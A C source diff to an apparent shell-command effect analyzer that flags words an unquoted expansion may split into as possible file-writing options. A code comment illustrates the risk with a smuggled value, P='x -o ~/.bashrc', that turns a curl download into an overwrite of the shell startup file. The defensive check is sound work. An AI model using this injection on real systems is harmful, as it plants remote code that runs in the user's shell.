@@ -400,6 +400,22 @@ static bool is_option_value(const parsed_arguments *parsed, const ag_shell_word 
     return false;
 }
 
+/*
+ * Returns the first word before `--` that an unquoted expansion or "$@" may
+ * split into several words, or NULL. A glob or a brace expansion gives words
+ * that all start as the word does, which may_be_option() covers.
+ */
+static const ag_shell_word *find_splitting_word(const ag_shell_word *words, size_t count)
+{
+    for (size_t i = 0; i < count; i++) {
+        if (!words[i].dynamic && strcmp(words[i].text, "--") == 0)
+            break;
+        if (words[i].splits)
+            return &words[i];
+    }
+    return NULL;
+}
+
 /* Returns whether `word` may expand to an option the command reads as one of its own. */
 static bool may_be_free_option(const parsed_arguments *parsed, const ag_shell_word *word)
 {
@@ -2743,10 +2759,17 @@ static ag_status add_effects(ag_extractor *ex, const ag_effect_spec *spec,
         status = apply_copy_names(ex, spec, parsed);
     if (status == AG_OK && spec->handler == AG_HANDLER_CURL)
         status = apply_curl_outputs(ex, parsed, words, count);
-    /* An option missing from the table may be one that writes a file. */
+    /*
+     * An option missing from the table may be one that writes a file, and so
+     * may the words that an unquoted expansion splits into
+     * (curl https://a.example/$P with P='x -o ~/.bashrc').
+     */
     static const char unknown[] = {AG_DYNAMIC_MARK, '\0'};
-    if (status == AG_OK && spec->strict_options && parsed->unknown_option != NULL)
-        status = ag_extractor_add_path(ex, AG_EFFECT_WRITE, parsed->unknown_option, unknown, 1);
+    const ag_shell_word *opener = parsed->unknown_option;
+    if (opener == NULL && spec->strict_options)
+        opener = find_splitting_word(words, count);
+    if (status == AG_OK && spec->strict_options && opener != NULL)
+        status = ag_extractor_add_path(ex, AG_EFFECT_WRITE, opener, unknown, 1);
     ex->url_globbing = globbing;
     if (status == AG_OK)
         status = apply_defaults(ex, spec, parsed, wrote, read, contacted);
